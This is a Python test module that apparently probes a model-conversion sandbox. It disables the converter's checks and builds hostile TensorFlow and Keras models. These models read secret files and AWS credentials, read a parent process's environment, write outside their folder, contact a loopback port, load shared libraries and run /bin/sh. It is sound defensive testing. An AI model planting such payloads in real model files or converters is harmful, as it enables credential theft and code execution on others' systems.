"""Hostile models, made and run in one conversion worker with the first wall taken away."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Callable
from functools import cache, partial
from pathlib import Path
from typing import Any

from builder.convert.requests import ReferenceRequest, SourceOptions


@cache
def take_first_wall_away() -> None:
    """Have this process look at nothing before TensorFlow and Keras do."""
    from builder.convert import artefact, frozen_graph, graph_runner, keras, layers_model, saved_model, surgery, worker

    for module in (artefact, frozen_graph, graph_runner, keras, layers_model, saved_model, surgery, worker):
        for name in dir(module):
            if name.startswith("check_"):
                setattr(module, name, lambda *_, **__: None)
    saved_model.prepare_saved_model = partial(_trusting, saved_model.prepare_saved_model)
    frozen_graph.prepare_graph = partial(_trusting, frozen_graph.prepare_graph)


def _trusting(prepare: Callable[..., Any], *given: Any, **named: Any) -> Any:
    return prepare(*given, **{**named, "trust": True})


def unguarded(order: tuple[str, Any]) -> str:
    """Do a worker's task without the first wall; give its failure."""
    from builder.convert import worker

    take_first_wall_away()
    task, request = order
    if source := getattr(request, "source", None):
        request = dataclasses.replace(request, source=dataclasses.replace(source, trust=True))
    return _attempt(lambda: getattr(worker, task)(request))


def attack(text: str) -> dict[str, str]:
    """Run hostile models; give what each came to: ``done`` and more, or its failure.

    Args:
        text: JSON of the paths of a secret, of a file to write and of a shared library, and a port on loopback.
    """
    from builder.convert.session import load_tensorflow

    take_first_wall_away()
    secret, victim, library, port = json.loads(text)
    here = Path.cwd()
    (here / "own").write_bytes(b"mine!")
    load_tensorflow()
    found = {
        "graph reads its own file": _run(here / "a", _reader(here / "a", str(here / "own"))),
        "graph reads the secret": _run(here / "b", _reader(here / "b", secret)),
        "graph writes outside": _run(here / "c", _writer(here / "c", victim)),
        "table of the secret": _run(here / "d", _table(here / "d", secret)),
        "op library": _attempt(lambda: __import__("tensorflow").load_op_library(library)),
    }
    return found | _trusted(here, secret, victim, library, port)


def _attempt(act: Any) -> str:
    try:
        return f"done {act()}"
    except Exception as error:  # whatever TensorFlow makes of it
        return f"{type(error).__name__}: {error}"


def _run(folder: Path, kind: str, *, trust: bool = False) -> str:
    import numpy as np

    from builder.convert import worker

    np.savez(folder.with_suffix(".in.npz"), x=np.zeros((1, 1), np.float32))
    out = folder.with_suffix(".out.npz")
    source = SourceOptions(folder, kind, trust=trust)

    def act() -> list[Any]:
        worker.reference(ReferenceRequest(source, folder.with_suffix(".in.npz"), out))
        with np.load(out) as arrays:
            return [array.ravel().tolist() for array in arrays.values()]

    return _attempt(act)


def _save(folder: Path, body: Any) -> str:
    import tensorflow as tf

    module = tf.Module()
    specs = [tf.TensorSpec((1, 1), tf.float32, name="x")]
    module.body = tf.function(body, input_signature=specs, autograph=False)
    tf.saved_model.save(module, str(folder))
    return "saved-model"


def _reader(folder: Path, path: str) -> str:
    """A model that answers with a file: with the bytes as numbers, as if they were weights."""
    import tensorflow as tf

    return _save(folder, lambda x: x + tf.cast(tf.io.decode_raw(tf.io.read_file(path), tf.uint8), tf.float32))


def _writer(folder: Path, path: str) -> str:
    import tensorflow as tf

    def body(x: Any) -> Any:
        with tf.control_dependencies([tf.io.write_file(path, "written")]):
            return tf.identity(x)

    return _save(folder, body)


def _table(folder: Path, path: str) -> str:
    """A model that has every line of a file in a table."""
    import tensorflow as tf

    def body(x: Any) -> Any:
        names = tf.raw_ops.HashTableV2(key_dtype=tf.int64, value_dtype=tf.string)
        fill = tf.raw_ops.InitializeTableFromTextFileV2(table_handle=names, filename=path, key_index=-1, value_index=-2)
        with tf.control_dependencies([fill]):
            return x + tf.cast(tf.raw_ops.LookupTableSizeV2(table_handle=names), tf.float32)

    return _save(folder, body)


acts = ("own", "read", "environ", "parent", "write", "fetch", "datagram", "library", "program")


def _trusted(here: Path, secret: str, victim: str, library: str, port: int) -> dict[str, str]:
    """A Keras model whose Lambda layer runs any Python, which ``trust = true`` allows; 1 for what it could do."""
    import tensorflow as tf
    import tf_keras as keras

    def act(x: Any, paths: tuple[str, ...] = (secret, victim, library, str(here / "own")), port: int = port) -> Any:
        import ctypes
        import os
        import socket
        import subprocess
        import urllib.request

        def datagram() -> None:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", port))

        tries = (
            lambda: open(paths[3], "rb").read(),  # noqa: PTH123, SIM115
            lambda: open(paths[0], "rb").read(),  # noqa: PTH123, SIM115
            lambda: os.environ["AWS_SECRET_ACCESS_KEY"],
            lambda: open(f"/proc/{os.getppid()}/environ", "rb").read(),  # noqa: PTH123, SIM115
            lambda: open(paths[1], "wb").write(b"x"),  # noqa: PTH123, SIM115
            lambda: urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5).read(),
            datagram,
            lambda: ctypes.CDLL(paths[2]),
            lambda: subprocess.run(["/bin/sh", "-c", f"echo x > {paths[1]}"], check=True),
        )
        flags = []
        for one in tries:
            try:
                one()
                flags.append(1.0)
            except Exception:
                flags.append(0.0)
        import tensorflow as tf

        return x + tf.constant([flags])

    net = keras.Sequential([keras.layers.Input((1,), name="x"), keras.layers.Lambda(act)])
    path = here / "lambda.h5"
    net.save(path)
    tf.keras.backend.clear_session()
    answer = _run(path, "keras-h5", trust=True)
    if not answer.startswith("done"):
        return {"trusted": answer}
    (flags,) = json.loads(answer.removeprefix("done "))
    return {f"trusted {name}": "done" if flag else "failed" for name, flag in zip(acts, flags, strict=True)}
